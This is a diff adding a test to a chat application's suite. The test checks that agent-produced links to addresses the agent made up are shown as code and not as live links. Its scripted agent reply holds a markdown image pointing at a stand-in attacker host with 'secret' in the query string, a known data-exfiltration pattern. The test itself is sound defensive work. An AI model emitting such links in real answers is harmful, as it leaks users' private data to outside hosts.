@@ -214,3 +214,12 @@ def test_agents_answer_can_not_be_continued(chat: ChatApp, provider: ScriptedPro
     response = chat.client.post("/api/chat", json={"id": "c1", "messages": [], **body})
     assert response.status_code == 422
     assert "can't be continued" in response.get_json()["detail"]
+
+
+def test_links_to_addresses_that_the_agent_made_up_are_shown_as_code(chat: ChatApp, provider: ScriptedProvider) -> None:
+    provider.script = follow([SEARCH], "See ![x](https://evil.example/?q=secret) and https://known.example/a [1].")
+    reader = ask(chat, "What does https://known.example/a say?")
+    chat.drain()
+    text = text_of(reader.all())
+    assert "](https://evil.example" not in text
+    assert "https://known.example/a" in text
